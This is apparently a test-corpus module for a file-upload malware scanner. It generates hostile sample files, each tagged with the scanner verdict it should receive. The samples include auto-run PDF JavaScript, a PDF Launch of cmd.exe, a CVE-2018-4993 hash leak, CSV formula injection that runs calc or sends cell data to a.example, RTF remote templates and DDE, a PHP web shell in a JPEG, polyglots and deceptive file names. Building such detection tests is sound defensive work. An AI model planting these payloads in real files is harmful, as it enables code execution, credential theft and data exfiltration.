"""Nasty PDF files, pictures, texts and names."""

import io
import struct
import zlib
from functools import partial

from pypdf import PdfReader, PdfWriter

from scanning.verdicts import Verdict
from tests.factories.scanning import docx, png
from tests.scanning.corpus.case import Case, cases
from tests.scanning.corpus.office import zipped
from tests.scanning.corpus.pdfs import objects, pdf, predicted, stream
from tests.scanning.corpus.zips import Member, archive

MISSED, SEEN = True, False
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
HEX = b"ASCIIHexDecode"
FLATE = b"FlateDecode"
RTF = b"{\\rtf1\\ansi %s}"


def jpeg(more: bytes = b"") -> bytes:
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + more + b"\xff\xd9"


def declared_png(width: int, height: int) -> bytes:
    """Return a picture that says that it is so large."""
    plain = png()
    return plain[:16] + struct.pack(">2I", width, height) + plain[24:]


def declared_jpeg(width: int, height: int) -> bytes:
    """Return a photograph that says so behind a note of its camera."""
    note = b"\xff\xff\xe1" + struct.pack(">H", 402) + bytes(400)
    frame = struct.pack(">HB2HB", 17, 8, height, width, 3) + bytes(9)
    return jpeg(note + b"\xff\xc2" + frame)


def behind_padding() -> bytes:
    """Return a PDF whose stream of objects holds the word that ends a stream."""
    engine = zlib.compressobj(0)
    plain = b"20 0 21 30 (endstream endobj) " + SCRIPT
    packed = engine.compress(plain) + engine.flush()
    return pdf(stream(packed, b"/Type/ObjStm/N 2/First 11/Filter/FlateDecode"))


def locked() -> bytes:
    """Return a PDF that only a password opens."""
    target = io.BytesIO()
    writer = PdfWriter(PdfReader(io.BytesIO(pdf())))
    writer.encrypt("mat-khau", algorithm="AES-256")
    writer.write(target)
    return target.getvalue()


PAGES: list[Case] = [
    *cases(
        Verdict.ACTIVE_CONTENT,
        ("script.pdf", "script at opening", "pdf_script", MISSED,
         partial(pdf, SCRIPT, catalog=b"/OpenAction 4 0 R")),
        ("script-commented.pdf", "a comment between key and name", "pdf_script", MISSED,
         partial(pdf, b"<</S%a comment\n/JavaScript/JS(a)>>")),
        ("script-apart.pdf", "its name an object of its own", "pdf_script", MISSED,
         partial(pdf, b"<</S 5 0 R/JS(a)>>", b"/JavaScript")),
        ("script-page.pdf", "script when a page opens", "pdf_script", MISSED,
         partial(pdf, page=b"/AA<</O" + SCRIPT + b">>")),
        ("script-packed.pdf", "in a stream of objects", "pdf_script", MISSED,
         lambda: pdf(objects(SCRIPT))),
        ("script-packed-twice.pdf", "packed twice", "pdf_script", MISSED,
         lambda: pdf(objects(SCRIPT, filters=(FLATE, FLATE)))),
        ("script-packed-hex.pdf", "packed and written as digits", "pdf_script", MISSED,
         lambda: pdf(objects(SCRIPT, filters=(FLATE, HEX)))),
        ("script-untyped.pdf", "in a stream that does not name its type", "pdf_script",
         MISSED, lambda: pdf(objects(SCRIPT, kind=b""))),
        ("script-behind.pdf", "behind the word that ends a stream", "pdf_script",
         MISSED, behind_padding),
        ("script-address.pdf", "script as an address", "pdf_script", MISSED,
         partial(pdf, b"<</S/URI/URI(javascript:a\\(\\))>>")),
        ("launch.pdf", "starts a program", "pdf_launch", MISSED,
         partial(pdf, b"<</S/Launch/F(cmd.exe)>>")),
        ("attachment.pdf", "a file inside", "pdf_attachment", MISSED,
         lambda: pdf(b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>",
                     stream(b"a", b"/Type/EmbeddedFile"))),
        ("attachment-untyped.pdf", "a file inside that does not say so",
         "pdf_attachment", MISSED,
         lambda: pdf(b"<</F(a.exe)/EF<</F 5 0 R>>>>", stream(b"MZ"))),
        ("media.pdf", "a film", "pdf_media", MISSED,
         partial(pdf, b"<</Type/Annot/Subtype/RichMedia>>")),
        ("form.pdf", "a form built while it is open", "pdf_form", MISSED,
         lambda: pdf(stream(b"<xdp/>"), catalog=b"/AcroForm<</XFA 4 0 R>>")),
        ("submit.pdf", "sends data away", "pdf_remote", MISSED,
         partial(pdf, b"<</S/SubmitForm/F(https://a.example)>>")),
        ("go-inside.pdf", "goes to a file inside", "pdf_remote", MISSED,
         partial(pdf, b"<</S/GoToE/T<</R/C/N(a)>>>>")),
        ("share.pdf", "CVE-2018-4993: sends the password's hash", "pdf_remote", MISSED,
         partial(pdf, b"<</S/GoToR/D[0/Fit]/F(\\\\\\\\10.0.0.1\\\\a)>>")),
        ("command.csv", "a cell that starts a program", "formula", MISSED,
         lambda: b"ten,so\na,=cmd|' /C calc'!A0\n"),
        ("command-plus.csv", "the same behind a sign and quotes", "formula", MISSED,
         lambda: b'ten,so\na,"+cmd|\' /C calc\'!A0"\n'),
        ("command-long.csv", "the same behind a long sum", "formula", MISSED,
         lambda: b"ten\n=" + b"1+" * 2000 + b"cmd|' /C calc'!A0\n"),
        ("command-utf16.csv", "the same in UTF-16", "formula", MISSED,
         lambda: "ten,so\na,=cmd|' /C calc'!A0\n".encode("utf-16")),
        ("fetch.csv", "a cell that sends others away", "formula", MISSED,
         lambda: b'ten,so\na,"=HYPERLINK(""http://a.example?""&A1;""a"")"\n'),
        ("sylk.csv", "an old table with macros", "formula", MISSED,
         lambda: b"ID;P\nO;E\nNN;NAuto_open;ER1C1;KOut Flank;F\nC;X1;Y1;EEXEC()\nE\n"),
        ("object.rtf", "an object", "embedded_object", MISSED,
         lambda: RTF % b"{\\object\\objemb{\\*\\objdata 0105}}"),
        ("template.rtf", "a template from the web", "remote_content", MISSED,
         lambda: RTF % b"{\\*\\template https://a.example/a.dotm}"),
        ("template-spelled.rtf", "its address spelled by codes", "remote_content",
         MISSED, lambda: RTF % b"{\\*\\template {\\'68\\'74}tp://a.example}"),
        ("dde.rtf", "a DDE command in pieces", "dde", MISSED,
         lambda: RTF % b"{\\field{\\*\\fldinst {DDE}{\\b AUTO} a b}}"),
        ("fetch.rtf", "a field that fetches text", "remote_content", MISSED,
         lambda: RTF % b'{\\field{\\*\\fldinst INCLUDETEXT "http://a.example"}}'),
    ),
    *cases(
        Verdict.INFECTED,
        ("script-spelled.pdf", "its name spelled by codes", "pdf_script malware", SEEN,
         partial(pdf, b"<</#53/J#61vaScr#69pt/JS(a)>>", catalog=b"/OpenAction 4 0 R")),
    ),
    *cases(
        Verdict.UNSCANNABLE,
        ("password.pdf", "encrypted", "encrypted", SEEN, locked),
        ("password-spelled.pdf", "encrypted, spelled by codes", "encrypted", MISSED,
         partial(pdf, b"<</V 2>>", trailer=b"/#45ncrypt%a\n4 0 R")),
        ("filter.pdf", "objects packed in a way that nobody uses", "damaged", MISSED,
         lambda: pdf(stream(b"\x80\x0b\x60\x50\x22", b"/Type/ObjStm/N 1/First 4"
                            b"/Filter/LZWDecode"))),
        ("predicted.pdf", "objects in rows with marks", "damaged", MISSED,
         lambda: pdf(predicted(SCRIPT))),
        ("huge.png", "a picture that fills the memory", "picture_too_big", MISSED,
         partial(declared_png, 65_000, 65_000)),
        ("huge.jpg", "a picture that fills the memory", "picture_too_big", MISSED,
         partial(declared_jpeg, 65_000, 65_000)),
        ("huge.zip", "a picture that fills the memory, in an archive",
         "picture_too_big", MISSED,
         lambda: archive(Member("a.png", declared_png(65_000, 65_000)))),
    ),
    *cases(
        Verdict.REFUSED_TYPE,
        ("archive.pdf", "a PDF that is an archive", "polyglot", MISSED,
         lambda: pdf() + zipped({"a.exe": b"MZ"})),
        ("archive-7z.png", "a picture with an archive behind it", "polyglot", MISSED,
         lambda: png() + b"7z\xbc\xaf\x27\x1c" + bytes(40)),
        ("page.png", "a picture with a page in it", "polyglot", MISSED,
         lambda: png() + b"<script>a()</script>"),
        ("server.jpg", "a picture with a program for servers", "polyglot", MISSED,
         partial(jpeg, b"<?php system($_GET[0]); ?>")),
        ("document.jpg", "a picture that is a PDF", "polyglot", MISSED,
         lambda: jpeg(pdf())),
        ("application.pdf", "a PDF that Windows runs", "polyglot", MISSED,
         lambda: pdf() + b"<hta:application/><script>a()</script>"),
        ("disc.pdf", "a PDF that is the image of a disc", "polyglot", MISSED,
         lambda: pdf().ljust(32769, b"\n") + b"CD001"),
        ("shifted.pdf", "a PDF that does not begin as one", "type_lies", MISSED,
         lambda: b"GIF89a" + pdf()),
        ("page.txt", "a page as a text", "program", MISSED,
         lambda: b"<!-- a -->\n<html><script>a()</script></html>"),
        ("drawing.txt", "a drawing with script as a text", "program", MISSED,
         lambda: b"<?xml version='1.0'?><svg onload='a()'/>"),
        ("styled.txt", "XML that brings its own page", "program", MISSED,
         lambda: b"<?xml version='1.0'?><?xml-stylesheet href='a.xsl'?><a/>"),
        ("program.pdf", "a program as a PDF", "program", MISSED,
         lambda: b"MZ" + bytes(100)),
        ("script.txt", "a script as a text", "program", MISSED,
         lambda: b"#!/bin/sh\n:\n"),
        ("text.pdf", "a text as a PDF", "type_lies", MISSED, lambda: b"Kinh"),
        ("document.txt", "a document as a text", "type_lies", MISSED, docx),
        ("letter.xyz", "an unknown type", "type_not_listed", MISSED, lambda: b"Kinh"),
        ("nothing.txt", "no byte", "empty", MISSED, lambda: b""),
        ("cod\u202efdp.txt", "a name written backwards", "dangerous_name", MISSED,
         lambda: b"Kinh"),
        ("a.pdf.exe", "a document that is a program", "dangerous_name program", MISSED,
         lambda: b"MZ" + bytes(100)),
        ("aux.txt", "a name that Windows takes for a device", "dangerous_name", MISSED,
         lambda: b"Kinh"),
        ("a.exe:b.txt", "a name that hides a stream", "dangerous_name", MISSED,
         lambda: b"Kinh"),
        ("a.pdf               .txt", "a name too wide to see its end",
         "dangerous_name", MISSED, lambda: b"Kinh"),
    ),
]  # fmt: skip
